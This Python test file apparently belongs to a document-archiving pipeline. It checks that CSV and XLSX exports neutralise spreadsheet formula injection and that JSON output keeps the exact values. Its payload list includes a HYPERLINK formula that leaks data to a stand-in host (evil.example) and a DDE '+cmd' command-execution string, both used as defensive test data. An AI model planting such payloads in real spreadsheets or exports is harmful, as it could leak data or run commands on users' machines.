"""Spreadsheet formula injection (issue 17, point 6): a value that a spreadsheet would read as a
formula (``=HYPERLINK(...)``, ``+cmd``, ``-2+3``, ``@SUM(A1)``, a leading tab …), whether OCR'd
or typed by a reviewer, is written neutralised into every CSV (a leading ``'``, as OWASP
advises) and as a plain string cell in ``catalogue.xlsx``; ``document.json`` keeps it exact,
and a plain number such as ``-12.5`` stays a number."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import openpyxl
import pytest

from gongwen.parsers.model import Cell, Document, Table
from gongwen.pipeline.export import files as export
from gongwen.pipeline.export.items import aggregate_rows, write_aggregates, write_item
from gongwen.pipeline.export.xlsx import xlsx_bytes
from publish_helpers import make_document

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak","x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1+1",
    "＝1+1",  # full-width: Excel in East Asian locales takes it as a formula too (OWASP)
    "＋1＋1",
    "－1＋1",
    "＠SUM(A1)",
]
# kept as they are: numbers are not formulas, and the rest starts with nothing a spreadsheet evaluates
LEGITIMATE = ["-12.5", "+3", "-1,234.50", "-7%", "-1.5e3", "-", "－", "2014-01-24", "关于=号的通知", "", "a-b"]


@pytest.mark.parametrize("value", PAYLOADS)
def test_payloads_are_neutralised_with_a_leading_apostrophe(value):
    assert export.spreadsheet_safe(value) == "'" + value
    assert export.spreadsheet_value(export.spreadsheet_safe(value)) == value


@pytest.mark.parametrize("value", LEGITIMATE)
def test_numbers_and_plain_text_are_kept(value):
    assert export.spreadsheet_safe(value) == value
    assert export.spreadsheet_value(value) == value


@pytest.mark.parametrize("value", [12, -12.5, None, True])
def test_values_that_are_not_text_are_kept(value):
    assert export.spreadsheet_safe(value) is value


def test_a_value_that_already_starts_with_an_apostrophe_reads_back_exactly():
    # "'=x" itself is not a formula, but written as is it would read back as "=x"
    for value in ("'=x", "''-2+3", "'-12.5", "'plain"):
        assert export.spreadsheet_value(export.spreadsheet_safe(value)) == value


def _read_csv(path):
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _table(cells: list[list[str]]) -> Table:
    return Table(
        cells=tuple(Cell(row=r, col=k, text=t) for r, row in enumerate(cells) for k, t in enumerate(row)),
        header_rows=1,
        pages=(1,),
    )


@pytest.fixture
def out_with_payloads(tmp_path):
    """One item per payload (as its title), the first carrying a table of payload and numeric cells."""
    out = tmp_path / "out"
    docs = []
    for n, value in enumerate(PAYLOADS):
        doc = make_document(f"item{n}", tmp_path, ["正文。"], title=value)
        if n == 0:
            doc = Document(**{**doc.__dict__, "tables": (_table([
                ["@SUM(A1)", "金额（万元）", "地区"],
                ["=1+1", "-12.5", "+cmd"],
                ["\t=1", "-2+3", "-"],
            ]),)})
        docs.append(doc)
    rows = {d.item_id: write_item(d, out, pdf=False)[1] for d in docs}
    write_aggregates(out, rows)
    return out, docs


def test_documents_and_catalogue_csv_neutralise_titles(out_with_payloads):
    out, docs = out_with_payloads
    documents = _read_csv(out / "documents.csv")
    title = documents[0].index("title")
    assert sorted(r[title] for r in documents[1:]) == sorted("'" + v for v in PAYLOADS)
    catalogue = _read_csv(out / "catalogue.csv")
    title = catalogue[0].index("题名")
    assert sorted(r[title] for r in catalogue[1:]) == sorted("'" + v for v in PAYLOADS)
    # the rest of the row is untouched: numbers stay numbers
    pages = catalogue[0].index("页数")
    assert {r[pages] for r in catalogue[1:]} == {"1"}


def test_tables_csv_and_table_csv_neutralise_cells_but_keep_negative_numbers(out_with_payloads):
    out, _ = out_with_payloads
    table = _read_csv(out / "items" / "item0" / "table-1.csv")
    assert table == [
        ["'@SUM(A1)", "金额（万元）", "地区"],
        ["'=1+1", "-12.5", "'+cmd"],
        ["'\t=1", "'-2+3", "-"],
    ]
    cells = _read_csv(out / "tables.csv")
    head = cells[0]
    got = [(r[head.index("header")], r[head.index("value")]) for r in cells[1:]]
    assert got == [
        ("'@SUM(A1)", "'=1+1"), ("金额（万元）", "-12.5"), ("地区", "'+cmd"),
        ("'@SUM(A1)", "'\t=1"), ("金额（万元）", "'-2+3"), ("地区", "-"),
    ]


def test_document_json_keeps_the_exact_values(out_with_payloads):
    out, _ = out_with_payloads
    for n, value in enumerate(PAYLOADS):
        data = json.loads((out / "items" / f"item{n}" / "document.json").read_text(encoding="utf-8"))
        assert data["fields"]["title"]["value"] == value
    data = json.loads((out / "items" / "item0" / "document.json").read_text(encoding="utf-8"))
    assert [c["text"] for c in data["tables"][0]["cells"]][:4] == ["@SUM(A1)", "金额（万元）", "地区", "=1+1"]


def test_catalogue_xlsx_holds_the_exact_values_as_text_cells(out_with_payloads):
    out, _ = out_with_payloads
    sheet = openpyxl.load_workbook(out / "catalogue.xlsx").active
    header = [c.value for c in sheet[1]]
    title = header.index("题名")
    cells = [row[title] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(PAYLOADS)  # no apostrophe: a string cell is not evaluated
    for c in cells:
        assert c.data_type == "s", (c.value, c.data_type)
        # and Excel's own "text, typed with an apostrophe" mark, so editing the cell keeps it text
        assert c.quotePrefix, c.value
    pages = [row[header.index("页数")] for row in sheet.iter_rows(min_row=2)]
    assert all(c.value == 1 and c.data_type == "n" and not c.quotePrefix for c in pages)
    other = [row[header.index("责任者")] for row in sheet.iter_rows(min_row=2)]
    assert all(c.value == "中共浙江省委办公厅" and not c.quotePrefix for c in other)
    sheet_xml = zipfile.ZipFile(out / "catalogue.xlsx").read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml, "no formula cell at all"


def test_xlsx_numbers_stay_numbers_and_payload_strings_stay_strings():
    rows = [["-2+3", -12.5, "-12.5", "@SUM(A1)", "\r=1"]]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes("s", ["a", "b", "c", "d", "e"], rows))).active
    a, b, c, d, e = sheet[2]
    assert (a.value, a.data_type, a.quotePrefix) == ("-2+3", "s", True)
    assert (b.value, b.data_type) == (-12.5, "n")
    assert (c.value, c.data_type, c.quotePrefix) == ("-12.5", "s", False)
    assert (d.value, d.data_type, d.quotePrefix) == ("@SUM(A1)", "s", True)
    assert (e.value, e.data_type, e.quotePrefix) == ("\r=1", "s", True)  # the CR kept, not read as LF


def test_an_item_id_like_a_formula_is_neutralised_and_read_back(tmp_path):
    """A file named like a formula gives an item id like one; documents.csv neutralises it and
    a script reads the real id back."""
    out = tmp_path / "out"
    docs = [make_document(i, tmp_path, ["正文。"]) for i in ("-2+3", "=cmd", "plain")]
    write_aggregates(out, {d.item_id: aggregate_rows(d) for d in docs})
    ids = [r[0] for r in _read_csv(out / "documents.csv")[1:]]
    assert ids == ["'-2+3", "'=cmd", "plain"]
    assert [export.spreadsheet_value(i) for i in ids] == ["-2+3", "=cmd", "plain"]
